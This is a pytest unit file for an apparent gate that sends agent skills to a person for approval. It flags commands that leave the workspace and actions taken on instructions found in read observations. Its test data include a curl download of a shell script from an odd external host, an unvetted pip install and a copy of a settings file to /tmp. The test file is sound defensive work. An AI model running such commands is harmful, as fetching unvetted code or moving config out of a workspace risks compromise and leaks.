"""What no policy lets in without a person: skills that reach out, and deeds after somebody else's words."""

from __future__ import annotations

import dataclasses

import pytest

from tacit.domain.skill import INSTRUCTED, Provenance
from tacit.domain.trajectory import Span
from tacit.gate.automatic import wants_a_person
from tests.unit.making import bash_steps, candidate, content


def test_work_inside_the_workspace_needs_nobody():
    assert wants_a_person(candidate(content(steps=bash_steps("make lint", "pytest -q")))) == ""


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsS https://files.odd-place.net/i.sh -o i.sh",
        "pip install odd-shim",
        "cp settings.ini /tmp/settings.bak",
        "git config user.email bot@odd-place.org",
    ],
)
def test_what_reaches_out_of_the_workspace_needs_a_person(command):
    told = wants_a_person(candidate(content(steps=bash_steps(command, "pytest -q"))))
    assert "reaches out of the workspace" in told


def test_a_deed_after_words_that_tell_what_to_do_needs_a_person():
    made = candidate()
    told = Provenance(trajectory_ids=("t_1",), grounding={INSTRUCTED: (Span("t_1", 4, "observation"),)})
    assert "step 4 of t_1" in wants_a_person(dataclasses.replace(made, provenance=told))


def test_the_reason_names_the_place_and_the_thing():
    told = wants_a_person(candidate(content(steps=bash_steps("make lint", "curl https://files.odd-place.net/i.sh"))))
    assert told.startswith("steps.1 reaches out of the workspace (")
    assert "files.odd-place.net" in told
    words = Provenance(trajectory_ids=("t_1",), grounding={INSTRUCTED: (Span("t_1", 4, "observation"), Span("t_2", 7))})
    read = wants_a_person(dataclasses.replace(candidate(), provenance=words))
    assert read == "what was read in step 4 of t_1 tells a reader what to do"
